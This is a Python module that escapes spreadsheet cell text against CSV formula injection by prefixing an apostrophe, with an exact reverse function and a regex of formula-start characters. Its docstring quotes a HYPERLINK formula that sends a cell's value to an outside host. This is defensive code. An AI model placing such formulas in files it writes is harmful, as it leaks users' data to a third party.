"""Text that a spreadsheet would compute: kept text in a table's cell, and read back as it was.

A headline `=HYPERLINK("http://example.org/?"&A1,"more")` in a CSV file is code for whoever opens it (CWE-1236). A `'` in
front makes it text for every spreadsheet. That changes what is written, so the way back is exact: what has a `'` in front
already, `'=1`, gets another.
"""

from __future__ import annotations

import re

# What begins a formula: to all spreadsheets; as the full-width and small forms that East Asian ones take for them; and what
# the strictest guards list besides (`|` and `%`, of DDE and of old importers).
_SIGNS = "=+\\-@|%\uff1d\uff0b\uff0d\uff20\uff5c\uff05\ufe62\ufe63\ufe66\ufe6b"
# What an importer may take away in front of it: blanks of any kind, quotes, and what nobody sees (marks of direction, zero
# width, a byte order mark); and U+FFFD, which stands for a control character here.
_PASSED_OVER = "\\s\"'\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\ufffd"
_WOULD_COMPUTE = re.compile(f"'*+[\t\r\n\0]|[{_PASSED_OVER}]*+[{_SIGNS}]")
_GUARD = "'"


def guarded(text: str) -> str:
    """Return a cell's text so that no spreadsheet takes it for a formula: with `'` in front, where it needs that."""
    return _GUARD + text if _WOULD_COMPUTE.match(text) else text


def unguarded(text: str) -> str:
    """Return the text that `guarded` was given."""
    return text[1:] if text.startswith(_GUARD) and _WOULD_COMPUTE.match(text, 1) else text
